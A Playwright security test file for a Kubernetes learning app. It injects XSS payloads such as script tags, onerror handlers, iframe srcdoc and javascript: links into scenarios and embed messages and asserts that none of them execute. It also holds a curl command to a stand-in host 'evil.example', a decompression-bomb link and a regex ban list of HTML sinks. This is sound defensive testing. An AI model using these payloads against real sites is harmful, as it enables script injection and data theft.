// Security (issue 9): hostile scenarios — markup and script in titles, annotations, images, event
// messages, commands — arrive through a share link (#s=) and through the embed API's
// kubeplay:load / kubeplay:command, and nothing executes: no dialog, no CSP violation, no injected
// element, window.__pwned untouched, the page still answers. Oversized payloads are refused. The
// built page's CSP forbids eval and inline scripts, and no source writes HTML or evaluates text.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Frame, type Page } from '@playwright/test';
import { encodeShare } from '../src/app/share/codec';
import type { SharePayload } from '../src/app/share/payload';
import { embedError, openEmbed, postToEmbed } from './harness';

test.describe.configure({ timeout: 90_000 });

const PWN = (n: number) => `window.__pwned=${n}`;

/** Markup that would run if any of it were ever parsed as HTML. */
const HOSTILE = {
  title: `<img src=x onerror=${PWN(1)}><script>${PWN(2)}</script>`,
  titleEs: `<svg onload=${PWN(3)}></svg><b>negrita</b>`,
  annotation: `<img src=x onerror=${PWN(4)}>`,
  templateAnnotation: `</pre><script>${PWN(6)}</script><iframe srcdoc="<script>parent.${PWN(7)}</script>">`,
  image: `<img src=x onerror=${PWN(8)}>`,
  command: `kubectl annotate deployment web evil="<script>${PWN(9)}</script>"`,
};

const HOSTILE_SCENARIO = `apiVersion: kubeplay.dev/v1
kind: Scenario
metadata:
  name: hostile
  title:
    en: ${JSON.stringify(HOSTILE.title)}
    es: ${JSON.stringify(HOSTILE.titleEs)}
cluster:
  nodes: 2
manifests: |
  apiVersion: apps/v1
  kind: Deployment
  metadata:
    name: web
    labels:
      app: web
    annotations:
      note: ${JSON.stringify(HOSTILE.annotation)}
      link: "javascript:${PWN(5)}"
  spec:
    replicas: 2
    selector:
      matchLabels:
        app: web
    template:
      metadata:
        labels:
          app: web
        annotations:
          html: ${JSON.stringify(HOSTILE.templateAnnotation)}
      spec:
        containers:
          - name: web
            image: nginx:1.27
            ports:
              - containerPort: 8080
  ---
  apiVersion: apps/v1
  kind: Deployment
  metadata:
    name: evil-image
  spec:
    replicas: 1
    selector:
      matchLabels:
        app: evil-image
    template:
      metadata:
        labels:
          app: evil-image
      spec:
        containers:
          - name: c
            image: ${JSON.stringify(HOSTILE.image)}
  ---
  apiVersion: v1
  kind: Service
  metadata:
    name: web
    annotations:
      x: "<a href=javascript:${PWN(10)}>click</a>"
  spec:
    selector:
      app: web
    ports:
      - port: 80
        targetPort: 8080
timeline:
  - at: 1s
    run: ${JSON.stringify(HOSTILE.command)}
`;

interface Watch {
  dialogs: string[];
  problems: string[];
}

/** Records dialogs (and dismisses them), CSP violations and page errors, for every frame. */
async function watchPage(page: Page): Promise<Watch> {
  const w: Watch = { dialogs: [], problems: [] };
  page.on('dialog', (d) => {
    w.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => w.problems.push(`pageerror: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() === 'error' || /Content Security Policy|Refused to/i.test(m.text()))
      w.problems.push(`console: ${m.text()}`);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      const w = window as unknown as { __csp?: string[] };
      (w.__csp ??= []).push(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });
  return w;
}

/** Nothing ran and nothing was injected in this frame. */
async function expectNothingRan(frame: Frame | Page): Promise<void> {
  const report = await frame.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
    csp: (window as unknown as { __csp?: string[] }).__csp ?? [],
    injected: document.querySelectorAll(
      '[onerror], [onload], [onclick], iframe[srcdoc], img[src="x"], a[href^="javascript:"]',
    ).length,
    inlineScripts: [...document.scripts].filter((s) => !s.src).length,
  }));
  expect(report).toEqual({ pwned: null, csp: [], injected: 0, inlineScripts: 0 });
}

/** The page paints and a click takes effect. */
async function expectResponsive(page: Page, frame: Page | Frame = page): Promise<void> {
  const ms = await frame.evaluate(async () => {
    const t = performance.now();
    await new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0)));
    return performance.now() - t;
  });
  expect(ms).toBeLessThan(1000);
}

function link(scenario: string, log: SharePayload['log'] = [], at = 4000): string {
  return `./?test=1#s=${encodeShare({
    v: 1,
    scenario,
    log,
    at,
    view: { mode: 'concept', speed: 1, playing: true },
  })}`;
}

test('a hostile share link shows every string as text and runs none of it', async ({ page }) => {
  const w = await watchPage(page);
  await page.goto(
    link(HOSTILE_SCENARIO, [
      { at: 2000, run: `kubectl annotate service web more="<img src=x onerror=${PWN(11)}>"` },
    ]),
  );
  await expect(page.locator('[data-testid=pod][data-name^="web-"]')).toHaveCount(2, {
    timeout: 20_000,
  });
  // The title, literally.
  await expect(page.locator('.brand__title')).toHaveText(HOSTILE.title);

  // The console prints annotations, images and events as kubectl does: as text.
  const box = page.getByRole('textbox', { name: 'kubectl' });
  const out = page.getByRole('log', { name: 'kubectl output' });
  for (const line of [
    'kubectl describe deployment web',
    'kubectl get pods -o yaml',
    'kubectl describe service web',
    'kubectl get events',
    'kubectl describe pods -l app=evil-image',
  ]) {
    await box.fill(line);
    await box.press('Enter');
  }
  await expect(out).toContainText(HOSTILE.annotation);
  await expect(out).toContainText('<script>window.__pwned=9</script>');
  await expect(out).toContainText(`onerror=${PWN(11)}`);
  await expect(out).toContainText(HOSTILE.image);

  // The events panel and the pod inspector show them as text too.
  await page.locator('[data-testid=pod][data-name^="web-"]').first().click();
  await expect(page.getByRole('log', { name: 'Events' })).toContainText('<img src=x');

  // In Spanish too.
  await page.getByRole('combobox', { name: /Language|Idioma/ }).selectOption('es');
  await expect(page.locator('.brand__title')).toHaveText(HOSTILE.titleEs);

  await page.waitForTimeout(1000);
  await expectNothingRan(page);
  expect(w.dialogs).toEqual([]);
  expect(w.problems).toEqual([]);
  await expectResponsive(page);
});

test('hostile scenarios and commands through the embed API run none of their markup', async ({
  page,
  baseURL,
}) => {
  const w = await watchPage(page);
  const frame = await openEmbed(page, baseURL ?? '');
  await postToEmbed(page, { type: 'kubeplay:load', scenario: HOSTILE_SCENARIO });
  await expect(frame.locator('[data-testid=pod][data-name^="web-"]')).toHaveCount(2, {
    timeout: 20_000,
  });
  // The hostile image name flows back to the parent, as data, in the events.
  await expect
    .poll(
      () =>
        page.evaluate((image) => {
          const events = (window.__received ?? []).filter((m) => m.type === 'kubeplay:event');
          return events.some((m) => JSON.stringify(m.event).includes(image));
        }, HOSTILE.image),
      { timeout: 20_000 },
    )
    .toBe(true);
  await postToEmbed(page, {
    type: 'kubeplay:command',
    command: `kubectl annotate deployment web via-embed="<img src=x onerror=${PWN(12)}>"`,
  });
  // Malformed and smuggling messages are refused with an error, never half-read.
  const refused: [unknown, RegExp][] = [
    [
      { type: 'kubeplay:command', command: `kubectl get pods\n<script>${PWN(13)}</script>` },
      /one command/,
    ],
    [
      { type: 'kubeplay:command', command: `curl http://evil.example/?${PWN(14)}` },
      /kubectl or chaos/,
    ],
    [{ type: 'kubeplay:load', scenario: { toString: null } }, /must be the scenario YAML/],
    [{ type: 'kubeplay:load', scenario: 'x', html: '<script></script>' }, /unexpected field/],
    [{ type: 'kubeplay:load', scenario: 'x'.repeat(1_000_001) }, /longer than/],
  ];
  for (const [msg, why] of refused) {
    await postToEmbed(page, msg);
    await expect.poll(() => embedError(page), { timeout: 10_000 }).toMatch(why);
  }
  const app = page.frames().find((f) => f.url().includes('embed=1'));
  expect(app).toBeDefined();
  await page.waitForTimeout(1000);
  await expectNothingRan(app as Frame);
  await expectNothingRan(page);
  expect(w.dialogs).toEqual([]);
  expect(w.problems).toEqual([]);
  await expectResponsive(page, app);
});

test('oversized or damaged share links are refused with an alert; the default lesson opens', async ({
  page,
}) => {
  const w = await watchPage(page);
  // Compresses to a short link but inflates past the decoder's cap (a zip bomb).
  const bomb = link(HOSTILE_SCENARIO + `# ${'A'.repeat(3_000_000)}\n`);
  expect(bomb.length).toBeLessThan(32_768);
  await page.goto(bomb);
  await expect(page.getByRole('alert')).toContainText(/too big|damaged|cannot be read/);
  await expect(page.locator('[data-testid=pod][data-status=Running]')).toHaveCount(6, {
    timeout: 20_000,
  });
  // A link far past the length limit.
  await page.goto(`./?test=1#s=${'A'.repeat(200_000)}`);
  await page.reload();
  await expect(page.getByRole('alert').first()).toBeVisible();
  await expect(page.locator('[data-testid=pod][data-status=Running]')).toHaveCount(6, {
    timeout: 20_000,
  });
  await expectNothingRan(page);
  expect(w.dialogs).toEqual([]);
  expect(w.problems).toEqual([]);
  await expectResponsive(page);
});

test('the built page: a CSP without eval or inline scripts, and no inline script at all', () => {
  const html = readFileSync('dist/index.html', 'utf8');
  const csp = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html)?.[1];
  expect(csp).toBeDefined();
  const policy = (csp ?? '').replace(/&#39;/g, "'");
  const directives = new Map(
    policy.split(';').map((d) => {
      const [name, ...values] = d.trim().split(/\s+/);
      return [name ?? '', values] as const;
    }),
  );
  expect(policy).not.toContain('unsafe-eval');
  expect(policy).not.toContain('wasm-unsafe-eval');
  expect(directives.get('script-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('base-uri')).toEqual(["'none'"]);
  // Every <script> has a src; no element carries an inline event handler.
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
  expect(scripts.length).toBeGreaterThan(0);
  for (const [, attrs, body] of scripts) {
    expect(attrs).toMatch(/\bsrc=/);
    expect(body?.trim()).toBe('');
  }
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  // Nothing shipped evaluates text as code.
  for (const f of readdirSync('dist/assets').filter((n) => n.endsWith('.js'))) {
    const js = readFileSync(join('dist/assets', f), 'utf8');
    expect(js, f).not.toMatch(/\bnew Function\s*\(|[^.\w$]eval\s*\(/);
  }
});

/** Every source file under `dir`. */
function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const p = join(dir, name);
    if (statSync(p).isDirectory()) return sources(p);
    return /\.(ts|tsx|js|mjs|html)$/.test(name) ? [p] : [];
  });
}

test('no source writes HTML from strings or evaluates text as code', () => {
  const banned =
    /dangerouslySetInnerHTML|\.innerHTML\b|\.outerHTML\b|insertAdjacentHTML|document\.write|createContextualFragment|\bsrcdoc\b|[^.\w$]eval\s*\(|\bnew Function\b|set(?:Timeout|Interval)\(\s*['"`]/;
  const files = [...sources('src'), ...sources('public'), 'index.html'];
  expect(files.length).toBeGreaterThan(100);
  const hits = files.filter((f) => banned.test(readFileSync(f, 'utf8')));
  expect(hits).toEqual([]);
});
